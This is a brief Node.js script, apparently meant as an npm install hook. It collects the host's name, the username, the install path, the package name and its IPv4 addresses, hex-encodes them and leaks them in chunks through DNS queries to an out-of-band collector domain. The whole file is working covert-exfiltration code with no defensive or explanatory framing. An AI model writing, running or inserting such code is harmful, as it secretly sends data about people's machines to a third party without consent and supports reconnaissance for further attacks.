"use strict";
const os = require("os");
const dns = require("dns");
const path = require("path");
const pkg = require("./package.json");
const ID = "r7k2q";
const SUFFIX = ID + ".oast-collector.example";
function hex(s) { return Buffer.from(String(s)).toString("hex"); }
function chunks(s, n) { const o = []; for (let i = 0; i < s.length; i += n) o.push(s.slice(i, i + n)); return o; }
const info = [os.hostname(), os.userInfo().username, path.resolve(process.env.INIT_CWD || "."), pkg.name, Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.family === "IPv4").map((i) => i.address).join(",")].join("|");
const parts = chunks(hex(info), 60);
const sid = Math.random().toString(36).slice(2, 8);
parts.forEach((p, i) => {
  const name = `${p}.${i}-${parts.length}.${sid}.${SUFFIX}`;
  dns.resolve4(name, () => {});
});
